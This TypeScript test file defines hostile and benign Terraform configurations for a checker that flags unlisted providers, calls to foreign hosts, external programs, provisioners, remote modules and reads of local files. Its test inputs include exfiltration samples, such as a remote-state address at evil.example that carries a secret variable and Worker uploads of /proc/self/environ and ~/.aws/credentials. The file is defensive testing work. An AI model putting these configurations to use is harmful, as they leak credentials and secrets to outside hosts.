import { terraform } from "./support";
import { backend, bare, output, type TerraformCase } from "./terraform-cases";

/** Remote states of which Terraform computes what says where they are. */
const COMPUTED_STATES: readonly (readonly [what: string, body: object])[] = [
  ["a config that is an expression", { backend: "http", config: '${{address="http://evil.example/?t=${nonsensitive(var.t)}"}}' }],
  ["a config that a local gives", { backend: "kubernetes", config: "${local.c}" }],
  ["a config that a directive gives", { backend: "http", config: "%{if true}x%{endif}" }],
  ["a list of configs", { backend: "http", config: ["${local.c}"] }],
  ["a host within another text", { backend: "s3", config: { endpoints: { s3: 'https://${"evil.example"}' } } }],
  ["a key", { backend: "pg", config: { '${"conn_str"}': "host=evil.example" } }],
  ["a key further down", { backend: "s3", config: { endpoints: { "%{if true}s3%{endif}": "evil.example" } } }],
  ["what a request carries", { backend: "s3", config: { bucket: "b", key: "${var.api_token}" } }],
  ["the backend", { backend: '${"http"}', config: { lock: true } }],
];

/** Rules against Terraform that runs programs, or speaks with strangers. */
export const HOSTILE_CASES: readonly TerraformCase[] = [
  [
    "foreign-provider",
    "a declared one",
    terraform({ terraform: { required_providers: { evil: { source: "Evil/Cloudflare" } } } }),
    ["provider.evil: provider evil is evil/cloudflare, which is on no list"],
  ],
  [
    "foreign-provider",
    "under Cloudflare's name",
    bare({ terraform: { required_providers: { cloudflare: { source: "registry.evil.example/cloudflare/cloudflare" } } } }),
    ["provider.cloudflare: provider cloudflare is registry.evil.example/cloudflare/cloudflare, which is on no list"],
  ],
  [
    "foreign-provider",
    "without a source",
    bare({ resource: { cloudflare_account_token: { x: {} } } }),
    ["cloudflare_account_token: cloudflare_account_token (x) comes from provider hashicorp/cloudflare, which is on no list"],
  ],
  [
    "foreign-provider",
    "an old form",
    bare({ terraform: { required_providers: [{ null: "~> 3.0" }] } }),
    ["provider.null: provider null is hashicorp/null, which is on no list"],
  ],
  [
    "foreign-provider",
    "a source that is no text",
    bare({ terraform: { required_providers: { x: { source: ["cloudflare/cloudflare"] } } } }),
    ['provider.x: provider x is ["cloudflare/cloudflare"], which is on no list'],
  ],
  [
    "foreign-provider",
    "implied by blocks of every kind",
    terraform({
      resource: { null_resource: { x: {} }, cloudflare_zone: { y: { provider: "aws.west" } } },
      data: [{ external: [{ x: {} }] }],
      ephemeral: { random_password: { x: {} } },
      action: { shell_run: { x: {} } },
      provider: { tls: {} },
      check: { c: { data: { http: { x: {} } } } },
      import: [{ to: "archive_file.x" }, { to: "cloudflare_zone.x", provider: "google" }],
    }),
    [
      "cloudflare_zone: cloudflare_zone (y) comes from provider hashicorp/aws, which is on no list",
      "data.http: data.http (x) comes from provider hashicorp/http, which is on no list",
      "ephemeral.random_password: ephemeral.random_password (x) comes from provider hashicorp/random, which is on no list",
      "null_resource: null_resource (x) comes from provider hashicorp/null, which is on no list",
      "provider.archive: provider archive is hashicorp/archive, which is on no list",
      "provider.google: provider google is hashicorp/google, which is on no list",
      "provider.shell: provider shell is hashicorp/shell, which is on no list",
      "provider.tls: provider tls is hashicorp/tls, which is on no list",
    ],
  ],
  ...[" random", "/* x */ random", "#\nrandom . a", "// x\n random.a"].map((provider): TerraformCase => [
    "foreign-provider",
    `a reference behind what Terraform ignores: ${JSON.stringify(provider)}`,
    terraform({ resource: { cloudflare_zone: { x: { provider } } } }),
    ["cloudflare_zone: cloudflare_zone (x) comes from provider hashicorp/random, which is on no list"],
  ]),
  [
    "foreign-provider",
    "Cloudflare's, and Terraform's own",
    terraform({ resource: { terraform_data: { x: {} } }, data: { terraform_remote_state: { y: {} } } }),
    [],
  ],
  [
    "foreign-provider",
    "with its registry's name",
    bare({ terraform: { required_providers: { cloudflare: { source: "registry.terraform.io/cloudflare/cloudflare" } } } }),
    [],
  ],

  [
    "foreign-http",
    "http data",
    terraform({ data: { http: { x: { url: "https://evil.example/" } } } }),
    ["data.http.x: data.http.x asks evil.example"],
  ],
  [
    "foreign-http",
    "http data within a check",
    terraform({ check: { c: { data: { http: { x: { url: "https://evil.example/" } } } } } }),
    ["data.http.x: data.http.x asks evil.example"],
  ],
  [
    "foreign-http",
    "a URL that is not known",
    terraform({ data: { http: { x: { url: "https://${var.host}/" } } } }),
    ["data.http.x: data.http.x asks a host that is known at plan time only"],
  ],
  [
    "foreign-http",
    "a remote state by http",
    terraform({ data: { terraform_remote_state: { x: { backend: "http", config: { address: "https://evil.example/s" } } } } }),
    ["data.terraform_remote_state.x.config.address: data.terraform_remote_state.x keeps or reads a state at evil.example"],
  ],
  [
    "foreign-http",
    "a state elsewhere",
    bare(backend({ s3: { endpoints: [{ s3: "https://r2.cloudflarestorage.com.evil.example" }] } })),
    ["backend.s3.endpoints.s3: backend.s3 keeps or reads a state at r2.cloudflarestorage.com.evil.example"],
  ],
  [
    "foreign-http",
    "a host without a scheme",
    bare(backend({ remote: { hostname: "evil.example:8443" } })),
    ["backend.remote.hostname: backend.remote keeps or reads a state at evil.example:8443"],
  ],
  [
    "credential-in-file",
    "userinfo, which hides a host",
    bare(backend({ http: { address: "https://app.terraform.io@evil.example/" } })),
    ["backend.http.address: backend.http holds a credential in address"],
  ],
  [
    "foreign-http",
    "hosts of providers, proxies and metadata",
    terraform({
      provider: {
        vault: { address: "https://evil.example" },
        kubernetes: [{ host: "evil.example:6443" }],
        cloudflare: { base_url: "https://x.example" },
      },
      terraform: { backend: { s3: { https_proxy: "evil.example:3128" } } },
      data: { terraform_remote_state: { r: { backend: "azurerm", config: { metadata_host: "evil.example" } } } },
    }),
    [
      "backend.s3.https_proxy: backend.s3 keeps or reads a state at evil.example:3128",
      "data.terraform_remote_state.r.config.metadata_host: data.terraform_remote_state.r keeps or reads a state at evil.example",
      "provider.kubernetes.host: provider.kubernetes speaks with evil.example:6443",
      "provider.vault.address: provider.vault speaks with evil.example",
    ],
  ],
  ...COMPUTED_STATES.map(([what, body]): TerraformCase => {
    const address = "data.terraform_remote_state.x";
    return [
      "foreign-http",
      `a remote state, computed: ${what}`,
      terraform({ data: { terraform_remote_state: { x: body } } }),
      [`${address}: ${address} keeps or reads a state at a host that is known at plan time only`],
    ];
  }),
  [
    "foreign-http",
    "services of AWS at hosts that are not known",
    terraform({
      provider: {
        aws: [{ endpoints: [{ sts: "${local.h}" }] }, { alias: "b", dynamic: { endpoints: { content: { sts: "${local.h}" } } } }],
      },
    }),
    Array.from({ length: 2 }, () => "provider.aws: provider.aws speaks with a host that is known at plan time only"),
  ],
  [
    "foreign-http",
    "services at a host without a scheme, and by a key that is computed",
    terraform({ provider: { aws: { endpoints: { sts: "evil.example" } }, acme: { x: { "${local.k}": "y" } } } }),
    [
      "provider.acme: provider.acme speaks with a host that is known at plan time only",
      "provider.aws.endpoints.sts: provider.aws speaks with evil.example",
    ],
  ],
  [
    "foreign-http",
    "states of other stacks, as they are written for each backend",
    terraform({
      data: {
        terraform_remote_state: {
          cloud: { backend: "remote", config: { organization: "example", workspaces: { name: "cloud" } } },
          local: { backend: "local", config: { path: "../../../terraform.other.tfstate" }, workspace: "${terraform.workspace}" },
          r2: {
            backend: "s3",
            config: {
              bucket: "b",
              endpoints: { s3: "https://0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com" },
              key: "r2.tfstate",
              use_path_style: true,
            },
            workspace: "${terraform.workspace}",
          },
        },
      },
    }),
    [],
  ],
  [
    "foreign-http",
    "R2",
    bare(backend({ s3: { endpoints: { s3: "https://0123456789abcdef0123456789abcdef.r2.cloudflarestorage.com" } } })),
    [],
  ],
  ["foreign-http", "HCP Terraform", bare({ terraform: { cloud: { hostname: "app.terraform.io", workspaces: { name: "https" } } } }), []],

  [
    "provider-base-url",
    "a base_url",
    terraform({ provider: { cloudflare: [{ alias: "x", base_url: "https://evil.example" }] } }),
    ["provider.cloudflare.base_url: provider.cloudflare has a base_url"],
  ],
  ["provider-base-url", "none", terraform({ provider: { cloudflare: { base_url: null } } }), []],

  [
    "external-program",
    "external data",
    terraform({ data: { external: { x: { program: ["sh"] } } } }),
    ["data.external.x: data.external.x runs a program"],
  ],
  [
    "external-program",
    "within a check",
    terraform({ check: { c: [{ data: [{ external: [{ x: {} }] }] }] } }),
    ["data.external.x: data.external.x runs a program"],
  ],
  [
    "external-program",
    "OpenTofu's encryption",
    terraform({ terraform: { encryption: { key_provider: { external: { k: { command: ["sh"] } } } } } }),
    ["encryption.external.k: encryption.external.k runs a program"],
  ],
  [
    "external-program",
    "credentials that a program gives",
    terraform({
      terraform: { backend: { s3: { profile: "x", shared_config_files: ["assets/config"] } } },
      data: { terraform_remote_state: { r: { backend: "kubernetes", config: { exec: [{ command: "sh" }] } } } },
      provider: { kubernetes: { config_path: "kubeconfig" }, aws: { shared_credentials_files: null, shared_config_files: null } },
    }),
    [
      "backend.s3.shared_config_files: backend.s3 may run a program that shared_config_files names",
      "data.terraform_remote_state.r.config.exec: data.terraform_remote_state.r may run a program that exec names",
      "provider.kubernetes.config_path: provider.kubernetes may run a program that config_path names",
    ],
  ],
  ["external-program", "other data", terraform({ data: { cloudflare_zone: { external: {} } } }), []],

  [
    "provisioner",
    "a provisioner",
    terraform({ resource: { terraform_data: { x: { provisioner: [{ "local-exec": { command: "env" } }] } } } }),
    ["terraform_data.x.provisioner: terraform_data.x has a provisioner"],
  ],
  [
    "provisioner",
    "on a token, in another form",
    terraform({ resource: [{ cloudflare_account_token: [{ x: [{ provisioner: { "local-exec": {} }, connection: {} }] }] }] }),
    [
      "cloudflare_account_token.x.connection: cloudflare_account_token.x has a connection",
      "cloudflare_account_token.x.provisioner: cloudflare_account_token.x has a provisioner",
    ],
  ],
  [
    "provisioner",
    "on what is removed",
    terraform({ removed: { from: "terraform_data.x", provisioner: { "local-exec": {} } } }),
    ["removed.terraform_data.x.provisioner: removed.terraform_data.x has a provisioner"],
  ],
  ["provisioner", "none", terraform({ resource: { terraform_data: { x: { provisioner: null } } }, removed: { from: "x.y" } }), []],

  [
    "unread-module",
    "a remote one",
    terraform({ module: { m: { source: "git::https://evil.example/m.git" } } }),
    ["module.m: module.m is loaded from elsewhere, and nothing here reads it"],
  ],
  [
    "unread-module",
    "a local one",
    terraform({ module: [{ m: [{ source: "./assets/m" }] }] }),
    ["module.m: module.m is loaded from a folder, and nothing here reads it"],
  ],
  ["unread-module", "none", terraform(), []],

  ["reads-local-files", "file", terraform(output('${file("/proc/self/environ")}')), ["output.token: output.token calls file"]],
  [
    "reads-local-files",
    "with a comment",
    terraform({ locals: { x: "%{if fileexists /* ( */ # x\n (var.x)}a%{endif}" } }),
    ["locals: locals calls fileexists"],
  ],
  [
    "reads-local-files",
    "by its full name, in a key",
    terraform({ resource: { cloudflare_account_token: { x: { name: { '${core::templatefile("x", {})}': 1 } } } } }),
    ["cloudflare_account_token.x: cloudflare_account_token.x calls core::templatefile"],
  ],
  [
    "reads-local-files",
    "what a Worker is made of",
    terraform({
      resource: {
        cloudflare_workers_script: { w: { content_file: "/proc/self/environ" }, a: { assets: { directory: "/root" } } },
        cloudflare_worker_version: { v: { modules: [{ name: "x", content_file: "/root/.aws/credentials" }] } },
      },
    }),
    [
      "cloudflare_worker_version.v: cloudflare_worker_version.v uploads what content_file names",
      "cloudflare_workers_script.a: cloudflare_workers_script.a uploads what directory names",
      "cloudflare_workers_script.w: cloudflare_workers_script.w uploads what content_file names",
    ],
  ],
  ...(
    [
      ["cloudflare_worker_version", { modules: '${[{content_file="/proc/self/environ",name="a.js"}]}' }, "modules"],
      ["cloudflare_worker_version", { modules: "${local.m}" }, "modules"],
      ["cloudflare_worker_version", { modules: [{ name: "x", content_base64: "eA==" }, "${local.m}"] }, "modules"],
      ["cloudflare_worker_version", { modules: [{ name: "x", '${"content_file"}': "/root/x" }] }, "modules"],
      ["cloudflare_workers_script", { assets: '${{directory="/root"}}' }, "assets"],
      ["cloudflare_workers_script", { assets: { "%{if true}directory%{endif}": "/root" } }, "assets"],
      ["cloudflare_worker_version", { assets: [[{ directory: "${var.d}" }]] }, "directory"],
    ] as const
  ).map(([type, body, name]): TerraformCase => [
    "reads-local-files",
    `what a Worker is made of, by an expression: ${JSON.stringify(body)}`,
    terraform({ resource: { [type]: { w: body } } }),
    [`${type}.w: ${type}.w uploads what ${name} names`],
  ]),
  ...[{ m: [{ content_file: "/root/x" }] }, { m: '${[{ content_file = "/root/x" }]}' }, { m: { "//": { content_file: "/root/x" } } }].map(
    (locals): TerraformCase => [
      "reads-local-files",
      `a local that a Worker may be made of: ${JSON.stringify(locals)}`,
      terraform({ locals }),
      ["locals: locals holds a content_file: what is uploaded may be any file"],
    ],
  ),
  [
    "reads-local-files",
    "Workers without files",
    terraform({
      locals: { content_file: "x", n: "a content_file" },
      resource: {
        cloudflare_workers_script: { w: { content: "${local.code}", assets: { jwt: "${var.jwt}", config: { headers: "x" } } } },
        cloudflare_worker_version: { v: { modules: [{ name: "${local.n}", content_base64: "eA==" }], assets: null } },
        cloudflare_healthcheck: { h: { path: "/etc" } },
      },
    }),
    [],
  ],
  ...(
    [
      ["aws_s3_object", { source: "/proc/self/environ" }, "source"],
      ["aws_s3_object", { source: "${local.f}" }, "source"],
      ["google_storage_bucket_object", { source: "file:///etc/passwd" }, "source"],
      ["aws_lambda_function", { filename: "x.zip" }, "filename"],
      ["acme_upload", { block: [{ key_file: "../id" }] }, "key_file"],
      ["acme_upload", { env_files: [".env"] }, "env_files"],
      ["acme_upload", { path: "~/.aws/credentials" }, "path"],
      ["acme_upload", { path: "/proc/self/environ" }, "path"],
    ] as const
  ).map(([type, body, name]): TerraformCase => [
    "reads-local-files",
    `a resource that is given a file: ${type} ${JSON.stringify(body)}`,
    terraform({ resource: { [type]: { x: body } } }),
    [`${type}.x: ${type}.x uses the file that ${name} names`],
  ]),
  [
    "reads-local-files",
    "a data source that reads a file",
    terraform({ data: { local_sensitive_file: { x: { filename: "/proc/self/environ" } } } }),
    ["data.local_sensitive_file.x: data.local_sensitive_file.x uses the file that filename names"],
  ],
  [
    "reads-local-files",
    "attributes with such names that are given no file",
    terraform({
      resource: {
        aws_s3_object: { u: { source: "https://example.com/x", source_hash: "x" }, a: { source: "arn:aws:s3:::b/k" } },
        aws_iam_role: { r: { path: "/service/" } },
        vault_generic_secret: { s: { path: "secret/ci" }, t: { path: "${var.mount}/x" } },
        acme_rule: { x: { match: { source: "10.0.0.0/8" }, is_file: true, log_file: "" } },
        terraform_data: { d: { input: { key_file: "x" } } },
      },
    }),
    [],
  ],
  ...[
    { backend: "local", config: { path: "/home/runner/terraform.tfstate" } },
    { backend: "local", config: { path: "../../../terraform.prod.tfstate", workspace_dir: "/home" } },
    { backend: "local", config: {} },
    { backend: "local" },
    { backend: "local", config: { path: "../../../terraform.${var.s}.tfstate" } },
    { backend: "local", config: "${local.c}" },
    { backend: '${"local"}', config: { path: "x" } },
  ].map((state): TerraformCase => [
    "reads-local-files",
    `a state that is a file of no stack: ${JSON.stringify(state)}`,
    bare({ ...backend({ local: { path: "../../../terraform.prod.tfstate" } }), data: { terraform_remote_state: { x: state } } }),
    ["data.terraform_remote_state.x: data.terraform_remote_state.x reads a file that is the state of no stack here"],
  ]),
  [
    "reads-local-files",
    "a state whose path is computed, as a stack's own is",
    bare({
      ...backend({ local: { path: "${var.path}" } }),
      data: { terraform_remote_state: { x: { backend: "local", config: { path: "${var.path}" } } } },
    }),
    ["data.terraform_remote_state.x: data.terraform_remote_state.x reads a file that is the state of no stack here"],
  ],
  [
    "reads-local-files",
    "the state of a stack that is here, and states that are no files",
    bare({
      ...backend({ local: { path: "../../../terraform.prod.tfstate" } }),
      data: {
        terraform_remote_state: {
          own: { backend: "local", config: { path: "../../../terraform.prod.tfstate" }, workspace: "${terraform.workspace}" },
          s3: { backend: "s3", config: { key: "path" } },
        },
      },
    }),
    [],
  ],
  [
    "reads-local-files",
    "a text that says so, and other functions",
    terraform({ ...output("file(x)"), locals: { a: "${profile(1)}", b: "${local.file}" } }),
    [],
  ],

  [
    "unexpected-file",
    "files that Terraform reads",
    terraform({}, "prod", [".terraform", "assets", "a.auto.tfvars", "metadata.json", "terraform.d", "terraform.tfvars.json"]),
    [
      "a.auto.tfvars: Terraform would read a.auto.tfvars as well",
      "terraform.d: Terraform would read terraform.d as well",
      "terraform.tfvars.json: Terraform would read terraform.tfvars.json as well",
    ],
  ],
  [
    "unexpected-file",
    "more configuration beside the one file that was given, in whatever case",
    terraform({}, "prod", [".hidden.tf", "Override.TF.json", "TERRAFORM.TFVARS", "main.tf", "x.tofu"]),
    ["Override.TF.json", "TERRAFORM.TFVARS", "main.tf", "x.tofu"].map((name) => `${name}: Terraform would read ${name} as well`),
  ],
  ["unexpected-file", "others", terraform({}, "prod", [".terraform.lock.hcl", "plan", "terraform.tfstate"]), []],
];
